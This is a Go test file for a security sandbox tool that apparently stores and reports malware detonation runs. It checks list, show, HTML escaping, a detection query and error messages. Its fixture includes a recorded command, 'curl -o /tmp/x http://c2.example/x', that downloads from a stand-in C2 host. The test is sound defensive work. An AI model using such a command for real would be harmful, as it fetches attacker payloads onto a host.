package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/detections/packs"
	"github.com/quarry-sec/quarry/sandbox"
	"github.com/quarry-sec/quarry/telemetry"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
)

// A stored run is listed and shown (table, json, html); an unknown run and
// a missing FILE are clear errors. No sandbox needed: the run is stored
// as Detonate stores it.
func TestDetonateListShow(t *testing.T) {
	dir := t.TempDir()
	st, err := eventstore.Open(eventstore.Path(dir))
	if err != nil {
		t.Fatal(err)
	}
	rep := sandbox.Report{RunID: "run-1", Sample: "dropper.sh", SHA256: strings.Repeat("ab", 32), Verdict: "malicious", Score: 8.5,
		Severity: "high", Techniques: []sandbox.TechniqueSeen{{ID: "T1105", Name: "Ingress Tool Transfer", Tactics: []string{"Command and Control"}, Alerted: true}},
		SandboxReport: telemetry.SandboxReport{
			Tree:  []*sandbox.Node{{PID: 10, Cmdline: "/bin/sh /tmp/sample", Children: []*sandbox.Node{{PID: 11, Cmdline: "curl -o /tmp/x http://c2.example/x", Techniques: []string{"T1105"}}}}},
			Rules: []sandbox.RuleFired{{Title: "Download <script>", Source: "sigma", Author: "Someone", Licence: "DRL 1.1", Severity: "medium"}}}}
	b, _ := json.Marshal(rep)
	run := telemetry.SandboxRun{ID: "run-1", Origin: "detonate", Sample: "dropper.sh", SHA256: rep.SHA256, Started: time.Now().UTC(),
		Verdict: "malicious", Score: 8.5, Techniques: []string{"T1105"}, Tactics: []string{"TA0011"}, Report: b}
	if err := st.PutSandboxRun(context.Background(), run); err != nil {
		t.Fatal(err)
	}
	st.Close()

	out, errs, code := quarry(t, dir, "", "detonate", "--list")
	if code != 0 || !strings.Contains(out, "run-1") || !strings.Contains(out, "malicious") {
		t.Fatalf("list: exit %d\n%s%s", code, out, errs)
	}
	out, errs, code = quarry(t, dir, "", "detonate", "--show", "run-1")
	for _, want := range []string{"verdict MALICIOUS", "T1105", "    11 curl -o /tmp/x http://c2.example/x  [T1105]", "by Someone, DRL 1.1"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("show: exit %d, no %q in\n%s%s", code, want, out, errs)
		}
	}
	html := filepath.Join(dir, "run.html")
	if _, errs, code := quarry(t, dir, "", "detonate", "--show", "run-1", "--format", "html", "-o", html); code != 0 {
		t.Fatalf("html: exit %d: %s", code, errs)
	}
	if b, err := os.ReadFile(html); err != nil || !strings.Contains(string(b), "Download &lt;script&gt;") {
		t.Errorf("html report: %v\n%s", err, b)
	}
	// The detection pack reports the run to the fleet.
	out, errs, code = quarry(t, dir, "", "query", "--format", "json", packs.Detection().Queries[packs.QuerySandboxRuns].Query)
	if code != 0 || !strings.Contains(out, `"run_id": "run-1"`) || !strings.Contains(out, `"verdict": "malicious"`) {
		t.Errorf("pack sandbox runs query: exit %d %s\n%s", code, errs, out)
	}
	if _, errs, code := quarry(t, dir, "", "detonate", "--show", "nope"); code == 0 || !strings.Contains(errs, `no run "nope"`) {
		t.Errorf("unknown run: exit %d: %s", code, errs)
	}
	if _, errs, code := quarry(t, dir, "", "detonate"); code != 2 || !strings.Contains(errs, "give one FILE") {
		t.Errorf("no file: exit %d: %s", code, errs)
	}
}
